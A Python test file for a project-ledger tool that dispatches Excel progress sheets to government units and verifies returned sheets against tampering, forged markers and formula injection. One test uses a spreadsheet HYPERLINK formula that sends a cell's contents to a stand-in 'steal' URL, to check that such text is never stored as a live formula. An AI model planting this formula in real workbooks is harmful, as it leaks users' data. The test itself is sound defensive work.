"""调度任务: sheets sent to two units of the small ledger, filled in as a unit would (and tampered with as a
unit should not), and read back by `import progress`."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Run, git
from xmtj.months import Month

pytestmark = pytest.mark.usefixtures("git_env")
JIA, EDU = "甲开发区管委会", "市教育局"


@pytest.fixture
def ledger(small_git: Path, run: Run) -> Path:
    root = small_git
    result = run("dispatch", "--month", "2021-12", "--unit", JIA, "--unit", EDU, "--due", "2022-01-05", ledger=root)
    assert result.exit_code == 0, result.output
    return root


def sheet_of(root: Path, unit: str) -> Any:
    import openpyxl

    return openpyxl.load_workbook(root / "dispatch/2021-12" / f"{unit}.xlsx")


def column(sheet: Any, heading: str) -> int:
    return next(c.column for c in sheet[3] if "".join(str(c.value).split()) == heading)  # headings wrap at （


def fill(root: Path, unit: str, out: Path, values: dict[str, Any], unprotect: dict[str, Any] | None = None) -> Path:
    """The unit's sheet with its first project's input cells filled (and, removing the protection, some
    locked cells changed)."""
    from xmtj.documents.xlsx import put

    book = sheet_of(root, unit)
    sheet = book["调度任务"]
    for heading, value in values.items():
        put(sheet, 4, column(sheet, heading), value)  # typed as text: "=2+3" stays "=2+3"
    if unprotect:
        sheet.protection.sheet = False
        for heading, value in unprotect.items():
            sheet.cell(4, column(sheet, heading), value)
    book.save(out)
    return out


def test_the_sheets_are_locked_validated_and_marked(ledger: Path) -> None:
    from xmtj.intake.dispatch import read_marker, verify_marker
    from xmtj.intake.sheets import read_table
    from xmtj.ledger.load import load_ledger

    assert {p.name for p in (ledger / "dispatch/2021-12").iterdir()} == {f"{EDU}.xlsx", f"{JIA}.xlsx", "index.yaml"}
    assert git(ledger, "log", "-1", "--format=%s").strip() == "调度: 2021-12 下发2个单位（2022年1月5日前交回）"
    book = sheet_of(ledger, JIA)
    sheet = book["调度任务"]
    assert sheet.protection.sheet and book["xmtj"].sheet_state == "veryHidden"
    assert sheet["A1"].value == f"2021年12月重点项目调度任务（{JIA}）" and "2022年1月5日" in sheet["A2"].value
    assert [sheet.cell(4, c).value for c in (1, 2)] == ["P1", "甲化工新材料项目"]
    assert sheet.cell(4, column(sheet, "年度计划（万元）")).protection.locked
    assert not sheet.cell(4, column(sheet, "当月完成投资（万元）")).protection.locked
    assert sheet.cell(4, column(sheet, "实际开工日期")).protection.locked  # recorded already: not to be changed
    kinds = {v.type for v in sheet.data_validations.dataValidation}
    assert {"decimal", "list"} <= kinds
    marker = read_marker(read_table(ledger / "dispatch/2021-12" / f"{JIA}.xlsx"))
    assert marker is not None and marker.unit == JIA and marker.month.key == "2021-12"
    verify_marker(load_ledger(ledger), marker, Month(2021, 12), "表")  # raises if it does not verify


def test_a_returned_sheet_is_recorded_in_one_commit_naming_the_unit(ledger: Path, run: Run, tmp_path: Path) -> None:
    returned = fill(ledger, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 120, "形象进度": "主体施工"})
    result = run("import", "progress", str(returned), "--month", "2021-12", ledger=ledger)
    assert result.exit_code == 0, result.output
    assert git(ledger, "log", "-1", "--format=%s").strip() == f"进度: 2021-12 1个项目（{JIA}调度表）"
    assert f"Xmtj-Dispatch: 2021-12/{JIA}" in git(ledger, "log", "-1", "--format=%B")
    assert "2021-12: {amount: 120, text: 主体施工}" in (ledger / "data/projects/P1.yaml").read_text(encoding="utf-8")
    status = run("dispatch", "status", "--month", "2021-12", "--format", "json", ledger=ledger)
    import json

    units = {u["unit"]: u for u in json.loads(status.stdout)["units"]}
    assert units[JIA]["state"] in ("已报送", "逾期报送") and units[JIA]["returned_on"]
    assert units[EDU]["state"] in ("未报送", "逾期未报送") and units[EDU]["returned_on"] is None


def refused(run: Run, ledger: Path, sheet: Path, month: str = "2021-12") -> str:
    before = git(ledger, "rev-parse", "HEAD")
    result = run("import", "progress", str(sheet), "--month", month, ledger=ledger)
    assert result.exit_code == 1, result.output
    assert git(ledger, "rev-parse", "HEAD") == before and git(ledger, "status", "--porcelain") == ""
    return result.stderr


def test_a_locked_cell_changed_is_refused(ledger: Path, run: Run, tmp_path: Path) -> None:
    sheet = fill(ledger, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 120}, {"年度计划（万元）": 9999})
    assert "甲.xlsx!调度任务!D4: 年度计划: 锁定的单元格被改动：应为“1000”，表中为“9999”" in refused(run, ledger, sheet)


def test_another_units_project_is_refused(ledger: Path, run: Run, tmp_path: Path) -> None:
    sheet = fill(ledger, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 120}, {"编号": "P3"})
    assert "P3 不是甲开发区管委会的项目" in refused(run, ledger, sheet)


def test_a_sheet_for_another_month_is_refused(ledger: Path, run: Run, tmp_path: Path) -> None:
    sheet = fill(ledger, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 120})
    assert "是 2021-12 的调度表，与 --month 2021-11 不符" in refused(run, ledger, sheet, month="2021-11")


def test_a_sheet_made_before_its_figures_changed_is_refused_for_those_rows(
    ledger: Path, run: Run, tmp_path: Path
) -> None:
    sheet = fill(ledger, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 120})
    assert run("progress", "P1", "--month", "2021-11", "--amount", "250", ledger=ledger).exit_code == 0
    assert "P1 的数据在此表下发后已改动（上月末累计420→450）" in refused(run, ledger, sheet)
    edu = fill(ledger, EDU, tmp_path / "教育局.xlsx", {"当月完成投资（万元）": 30})
    result = run("import", "progress", str(edu), "--month", "2021-12", ledger=ledger)
    assert result.exit_code == 0, result.output  # P2's figures did not change: its older sheet still counts


def test_a_forged_marker_does_not_verify(ledger: Path, run: Run, tmp_path: Path) -> None:
    book = sheet_of(ledger, JIA)
    book["xmtj"]["B3"] = EDU  # claims to be another unit's sheet
    book.save(tmp_path / "假.xlsx")
    assert "调度表标记无法验证" in refused(run, ledger, tmp_path / "假.xlsx")


def test_a_sheet_forged_without_the_offices_key_is_refused(ledger: Path, run: Run, tmp_path: Path) -> None:
    """A unit with a clone of the ledger rebuilds a sheet for another unit and signs it the way the marker
    used to be made (a digest of public values); without the key kept outside the ledger it fails."""
    import hashlib

    from xmtj.intake.dispatch import marker_text, unit_projects
    from xmtj.ledger.load import load_ledger

    book = sheet_of(ledger, EDU)
    marker = {row[0].value: row[1] for row in book["xmtj"].iter_rows()}
    then = load_ledger(ledger, marker["revision"].value)
    month = Month(2021, 12)
    text = marker_text(marker["ledger"].value, EDU, month, marker["revision"].value, unit_projects(then, EDU, month))
    marker["digest"].value = hashlib.sha256(text.encode("utf-8")).hexdigest()
    sheet = book["调度任务"]
    sheet.cell(4, column(sheet, "当月完成投资（万元）"), 99999)
    book.save(tmp_path / "伪造.xlsx")
    assert "调度表标记无法验证" in refused(run, ledger, tmp_path / "伪造.xlsx")


def test_a_dispatch_sheet_that_lost_its_marker_is_not_read_as_a_plain_report(
    ledger: Path, run: Run, tmp_path: Path
) -> None:
    book = sheet_of(ledger, JIA)
    del book["xmtj"]
    sheet = book["调度任务"]
    sheet.cell(4, column(sheet, "当月完成投资（万元）"), 120)
    book.save(tmp_path / "另存.xlsx")
    assert "看起来是下发的调度表，但其中的标记已丢失" in refused(run, ledger, tmp_path / "另存.xlsx")


def test_a_sheet_is_verified_only_where_the_key_is(ledger: Path, run: Run, tmp_path: Path, monkeypatch: Any) -> None:
    returned = fill(ledger, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 120})
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "另一台电脑"))
    assert "本机没有本台账的调度表密钥" in refused(run, ledger, returned)


def test_dispatch_status_follows_the_figures_whatever_route_they_came_by(ledger: Path, run: Run) -> None:
    """The office typed 市教育局's figure in from its own consolidated 月报: the unit has reported."""
    import json

    assert run("progress", "P2", "--month", "2021-12", "--amount", "30", ledger=ledger).exit_code == 0
    units = {u["unit"]: u for u in json.loads(run("dispatch", "status", "--month", "2021-12", "--format", "json",
                                                   ledger=ledger).stdout)["units"]}  # fmt: skip
    assert units[EDU]["reported"] == units[EDU]["projects"] and units[EDU]["routes"] == ["逐项填报"]
    assert units[EDU]["state"] in ("已报送", "逾期报送") and units[EDU]["returned_on"] == "2021-12-01"
    assert units[JIA]["reported"] == 0 and units[JIA]["state"] in ("未报送", "逾期未报送")
    report = run("report", "--month", "2021-12", ledger=ledger).stdout
    assert f"本月向2个责任单位下发调度表，{JIA}1个单位未按要求交回" in report


def test_a_planted_dispatch_trailer_decides_nothing(ledger: Path, run: Run) -> None:
    """A commit whose message claims to be 甲开发区管委会's return, but records no figure of its projects."""
    import json

    (ledger / "说明.txt").write_text("x", encoding="utf-8")
    git(ledger, "add", "说明.txt")
    git(ledger, "commit", "-qm", f"进度\n\nXmtj-Dispatch: 2021-12/{JIA}")
    units = {u["unit"]: u for u in json.loads(run("dispatch", "status", "--month", "2021-12", "--format", "json",
                                                   ledger=ledger).stdout)["units"]}  # fmt: skip
    assert units[JIA]["reported"] == 0 and units[JIA]["returned_on"] is None


def test_unit_names_never_share_a_sheet_file(small_git: Path, run: Run) -> None:
    p3 = small_git / "data/projects/P3.yaml"
    p3.write_text(p3.read_text(encoding="utf-8").replace("responsible_unit: 市水务局", "responsible_unit: 市教育/局"),
                  encoding="utf-8")  # fmt: skip
    git(small_git, "commit", "-qam", "单位")
    result = run("dispatch", "--month", "2021-12", "--due", "2022-01-05", ledger=small_git)
    assert result.exit_code == 0, result.output
    index = (small_git / "dispatch/2021-12/index.yaml").read_text(encoding="utf-8")
    assert "file: 市教育局.xlsx" in index and "file: 市教育局-2.xlsx" in index


def test_a_ledger_without_units_dispatches_nothing(ledger: Path, run: Run) -> None:
    before = git(ledger, "rev-parse", "HEAD")
    result = run("dispatch", "--month", "2022-01", "--due", "2022-02-05", "--future", ledger=ledger)
    assert result.exit_code == 1 and "没有可下发的调度表" in result.stderr
    assert git(ledger, "rev-parse", "HEAD") == before


FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1,"点此查看")'


def test_text_that_looks_like_a_formula_stays_text_out_and_back(small_git: Path, run: Run, tmp_path: Path) -> None:
    """A project named like a formula, a 形象进度 of =2+3: text in every workbook, and the dispatch sheet
    still comes back (its locked name compared as text)."""
    import openpyxl

    p1 = small_git / "data/projects/P1.yaml"
    p1.write_text(p1.read_text(encoding="utf-8").replace("name: 甲化工新材料项目", f"name: '{FORMULA}'"), "utf-8")
    git(small_git, "commit", "-qam", "名称")
    assert run("dispatch", "--month", "2021-12", "--unit", JIA, "--due", "2022-01-05", ledger=small_git).exit_code == 0
    book = openpyxl.load_workbook(small_git / "dispatch/2021-12" / f"{JIA}.xlsx")
    cell = book["调度任务"].cell(4, column(book["调度任务"], "项目名称"))
    assert cell.value == FORMULA and cell.data_type != "f"
    returned = fill(small_git, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 120, "形象进度": "=2+3"})
    result = run("import", "progress", str(returned), "--month", "2021-12", ledger=small_git)
    assert result.exit_code == 0, result.output
    assert "text: =2+3" in p1.read_text(encoding="utf-8") or "text: '=2+3'" in p1.read_text(encoding="utf-8")
    for args in (("status", "--format", "xlsx"), ("issue", "list", "--format", "xlsx")):
        out = tmp_path / f"{args[0]}.xlsx"
        assert run(*args, "--as-of", "2021-12-31", "--out", str(out), ledger=small_git).exit_code == 0
        cells = [c for ws in openpyxl.load_workbook(out) for row in ws.iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]
    assert FORMULA in {
        c.value for ws in openpyxl.load_workbook(tmp_path / "status.xlsx") for row in ws.iter_rows() for c in row
    }


def test_a_consolidated_monthly_report_marks_its_units_reported(ledger: Path, run: Run, tmp_path: Path) -> None:
    """The office imports its own consolidated 月报 (not the units' sheets): 市教育局's project has its figure, so
    市教育局 has reported — in ``dispatch status`` and in the 通报 alike — and the route says how it came."""
    import json

    from tests.intake.sheets import write_workbook

    headings = ["序号", "项目编号", "项目名称", "当月完成投资", "形象进度"]
    book = write_workbook(tmp_path / "12月月报.xlsx", "2021年12月重点项目月报", "单位：万元", headings,
                          [[1, "P2", "乙中学扩建项目", 40, "基础施工"]])  # fmt: skip
    result = run("import", "progress", str(book), "--month", "2021-12", ledger=ledger)
    assert result.exit_code == 0, result.output
    units = {u["unit"]: u for u in json.loads(run("dispatch", "status", "--month", "2021-12", "--format", "json",
                                                   ledger=ledger).stdout)["units"]}  # fmt: skip
    assert units[EDU]["reported"] == units[EDU]["projects"] and units[EDU]["routes"] == ["月报导入"]
    report = run("report", "--month", "2021-12", "--date", "2022-01-10", ledger=ledger).stdout
    assert f"{JIA}1个单位未按要求交回" in report and EDU not in report.split("未按要求交回")[0].split("调度表")[-1]


def test_a_locked_cell_changed_on_a_row_without_a_figure_is_refused(ledger: Path, run: Run, tmp_path: Path) -> None:
    """年度计划 lowered with the protection removed, on a row the unit left without a figure: still refused."""
    sheet = fill(ledger, JIA, tmp_path / "甲.xlsx", {"形象进度": "主体施工"}, {"年度计划（万元）": 800})
    assert "甲.xlsx!调度任务!D4: 年度计划: 锁定的单元格被改动：应为“1000”，表中为“800”" in refused(run, ledger, sheet)


def test_a_cumulative_typed_as_the_months_figure_is_flagged_on_its_row(ledger: Path, run: Run, tmp_path: Path) -> None:
    """P1's 上月末累计 is 420: 1—12月 typed as 当月 (450) is flagged on its row, refused unless accepted; the
    sheet imports with --accept 4, and the acceptance is said."""
    sheet = fill(ledger, JIA, tmp_path / "甲.xlsx", {"当月完成投资（万元）": 450})
    said = refused(run, ledger, sheet)
    assert "甲.xlsx!调度任务!F4: 当月完成投资: 疑似填写了累计数：当月450万元不小于上月末累计420万元" in said
    assert "--accept 4" in said
    accepted = run("import", "progress", str(sheet), "--month", "2021-12", "--accept", "4", ledger=ledger)
    assert accepted.exit_code == 0, accepted.output
    assert "1行的当月数疑似累计数，已按 --accept 作为当月数登记（第4行）" in accepted.output
    fine = fill(ledger, EDU, tmp_path / "教育局.xlsx", {"当月完成投资（万元）": 30})
    assert run("import", "progress", str(fine), "--month", "2021-12", ledger=ledger).exit_code == 0  # not flagged


def test_a_problem_on_a_row_without_a_figure_is_recorded(ledger: Path, run: Run, tmp_path: Path) -> None:
    """A not-started project's 存在问题 is what matters most: with --issues it becomes a problem though the
    row has no figure; without, the summary says it was left."""
    sheet = fill(ledger, JIA, tmp_path / "甲.xlsx", {"存在问题": "用地手续未办结，无法开工"})
    left = run("import", "progress", str(sheet), "--month", "2021-12", "--dry-run", ledger=ledger)
    assert "1 行只有存在问题、没有完成投资：未登记（加 --issues 登记为问题）" in left.output
    result = run("import", "progress", str(sheet), "--month", "2021-12", "--issues", ledger=ledger)
    assert result.exit_code == 0, result.output
    assert "1 行只有存在问题、没有完成投资：已登记为问题" in result.output
    new = [
        p
        for p in (ledger / "data/issues").glob("*.yaml")
        if "用地手续未办结，无法开工" in p.read_text(encoding="utf-8")
    ]
    assert len(new) == 1 and "project: P1" in new[0].read_text(encoding="utf-8")
    assert "2021-12" not in (ledger / "data/projects/P1.yaml").read_text(encoding="utf-8").split("progress:")[-1]
